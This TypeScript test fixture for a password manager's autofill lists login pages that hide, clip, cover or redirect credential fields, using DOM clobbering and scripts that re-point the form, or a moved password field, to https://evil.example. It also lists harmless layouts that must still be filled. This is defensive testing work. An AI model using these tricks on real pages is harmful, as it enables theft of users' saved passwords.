/** A page of which no field may be filled; if it has fields of the class `trap`, none of those. */
export interface HostilePage {
  name: string;
  html: string;
  headers?: Record<string, string>;
}

const LOGIN = '<input type="email" name="email">';
const PASSWORD = '<input type="password" name="password">';
const FIELDS = `${LOGIN}${PASSWORD}<button>Sign in</button>`;

const page = (name: string, html: string, headers?: Record<string, string>): HostilePage => ({
  name,
  html,
  ...(headers && { headers }),
});

const styled = (name: string, style: string): HostilePage =>
  page(name, `<form>${FIELDS.replaceAll('<input', `<input style="${style}"`)}</form>`);

const within = (name: string, style: string): HostilePage =>
  page(name, `<form><div style="${style}">${FIELDS}</div></form>`);

const COVER = 'position:absolute;inset:0;width:100%;height:100%';
const covered = (name: string, cover: string): HostilePage =>
  page(name, `<form style="position:relative;height:80px">${FIELDS}${cover}</form>`);

const leading = (name: string, action: string, before = ''): HostilePage =>
  page(name, `${before}<form action="${action}">${FIELDS}</form>`);

const framed = (attributes: string): string => `<iframe ${attributes} width="400" height="200"></iframe>`;
const quoted = (html: string): string => html.replaceAll('"', "'");

/** Once the login is filled in, a script changes the password field. */
const afterLogin = (name: string, change: string): HostilePage =>
  page(
    name,
    `<form>${LOGIN}<span>${PASSWORD.replace('<input', '<input class="trap"')}</span></form>
    <script>const form = document.forms[0]; form.email.addEventListener('input', () => { ${change} });</script>`,
  );

export const hostilePages = (elsewhere: string, here: string): HostilePage[] => [
  // Not rendered, invisible
  within('in what is not rendered', 'display:none'),
  styled('invisible', 'visibility:hidden'),
  page('in closed details', `<form><details><summary>More</summary>${FIELDS}</details></form>`),
  within('in content that is skipped', 'content-visibility:hidden'),
  // Faint
  styled('almost transparent', 'opacity:0.09'),
  page('faint in what is faint', `<form style="opacity:.3"><div style="opacity:.3">${FIELDS}</div></form>`),
  within('in what a filter makes transparent', 'filter:opacity(5%)'),
  within('under a mask', 'mask-image:linear-gradient(transparent,transparent)'),
  within('under a mask for its border', '-webkit-mask-box-image:linear-gradient(transparent,transparent)'),
  page(
    'under a filter of the page',
    `<svg width="0" height="0"><filter id="f"><feComponentTransfer><feFuncA type="linear" slope="0"/></feComponentTransfer></filter></svg>
    <form style="filter:url(#f)">${FIELDS}</form>`,
  ),
  page(
    'faint in a closed part',
    `<x-login><form>${FIELDS}</form></x-login><script>
      document.querySelector('x-login').attachShadow({ mode: 'closed' }).innerHTML = '<p style="opacity:.09"><slot></slot></p>';
    </script>`,
  ),
  styled('without ground, border and colour', 'border:0;background:transparent;color:transparent'),
  // Small
  styled('too low', 'height:3px;padding:0;border:0'),
  styled('too narrow', 'width:3px;padding:0;border:0'),
  within('in what is scaled away', 'transform:scale(0.01)'),
  styled('turned to its edge', 'transform:rotateY(90deg)'),
  // Off the page
  styled('left of the page', 'position:absolute;left:-9999px'),
  styled('moved off the page', 'transform:translateX(-5000px)'),
  within('below the window, and fixed', 'position:fixed;bottom:-500px'),
  page(
    'right of a page that does not scroll',
    `<style>html,body{overflow:hidden}</style><form style="position:absolute;left:300vw">${FIELDS}</form>`,
  ),
  // Clipped
  within('in what a path cuts off', 'clip-path:circle(0)'),
  styled('cut off by a rectangle', 'position:absolute;clip:rect(0,0,0,0)'),
  within('in a box without height', 'height:0;overflow:hidden'),
  page(
    'outside of the box that shows',
    `<form><div style="width:100px;height:40px;overflow:hidden;position:relative">
      <div style="position:absolute;top:60px">${FIELDS}</div></div></form>`,
  ),
  page(
    'in a strip of a pixel',
    `<form><div style="width:1px;height:200px;overflow:hidden;white-space:nowrap">${FIELDS}</div></form>`,
  ),
  // Covered
  covered('under something else', `<div style="${COVER};background:white">Win a prize</div>`),
  covered(
    'under what lets clicks through',
    `<div style="${COVER};background:white;pointer-events:none">Prize</div>`,
  ),
  covered(
    'under a picture',
    `<img alt="" style="${COVER}" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>">`,
  ),
  // Forms that lead elsewhere: the other ways are in libs/extension/src/filling/fill.spec.ts.
  leading('leading to another origin', `${elsewhere}/take`),
  leading('leading to a blob', `blob:${here}/1`),
  leading(
    'forging what its document is asked',
    'take',
    `<base href="${elsewhere}/"><img name="baseURI" alt=""><img name="querySelectorAll" alt=""><img name="URL" alt="">`,
  ),
  // Frames
  page('in a frame of the site', framed('src="/framed"')),
  page('in a frame of its own words', framed(`srcdoc="${quoted(`<form>${FIELDS}</form>`)}"`)),
  page('in a frame of another origin', framed(`src="${elsewhere}/framed"`)),
  page('in a frame in a sandbox', framed('src="/framed" sandbox="allow-scripts"')),
  // Opaque origin
  page('in a sandbox of its own', `<form>${FIELDS}</form>`, {
    'content-security-policy': 'sandbox allow-scripts',
  }),
  // Changing while it is filled
  afterLogin('changing where its form leads', "form.setAttribute('action', 'https://evil.example')"),
  afterLogin('hiding its password', "form.password.style.opacity = '0'"),
  afterLogin('moving its password away', "form.password.style.cssText = 'position:absolute;left:-9999px'"),
  afterLogin(
    'putting its password into another form',
    "form.password.setAttribute('form', 'nobody'); form.insertAdjacentHTML('afterend', '<form id=nobody action=https://evil.example></form>')",
  ),
  afterLogin(
    'covering its password',
    `form.password.parentElement.style.position='relative'; form.password.insertAdjacentHTML('afterend', '<b style="${COVER};background:red"></b>')`,
  ),
];

/** The form in the frames, and on the page of another origin. */
export const PLAIN_FORM = `<form>${FIELDS}</form>`;

/** Unusual but harmless pages, whose fields have to be filled. */
export const friendlyPages: HostilePage[] = [
  page(
    'far down',
    `<div style="height:5000px"></div><form>${FIELDS}</form><div style="height:3000px"></div>`,
  ),
  page(
    'in a box that scrolls',
    `<div style="height:100px;overflow:auto"><div style="height:600px"></div><form>${FIELDS}</form></div>`,
  ),
  page(
    'in a fixed dialog',
    `<div style="position:fixed;inset:0;background:#0008"><form style="margin:100px;background:white">${FIELDS}</form></div>`,
  ),
  page('in a modal dialog', `<dialog id="d"><form>${FIELDS}</form></dialog><script>d.showModal()</script>`),
  page(
    'under labels that float',
    `<form>${[LOGIN, PASSWORD]
      .map(
        (field) =>
          `<div style="position:relative">${field}<label style="position:absolute;left:4px;top:2px">Name</label></div>`,
      )
      .join('')}</form>`,
  ),
  page(
    'under outlines that are drawn over',
    `<form>${[LOGIN, PASSWORD]
      .map(
        (field) =>
          `<div style="position:relative;width:200px">${field}<fieldset style="position:absolute;inset:0;pointer-events:none"></fieldset></div>`,
      )
      .join('')}</form>`,
  ),
  page(
    'turned and moved a little',
    `<form style="transform:translate(40px,20px) scale(.9)">${FIELDS}</form>`,
  ),
  page('dimmed', `<form style="opacity:.6">${FIELDS}</form>`),
  page(
    'in a part of its own',
    `<x-login></x-login><script>
      document.querySelector('x-login').attachShadow({ mode: 'open' }).innerHTML = ${JSON.stringify(`<form>${FIELDS}</form>`)};
    </script>`,
  ),
  page(
    'sending to its own origin',
    `<form action="/login" method="post">${FIELDS}<button formaction="/other">Other</button></form>`,
  ),
];
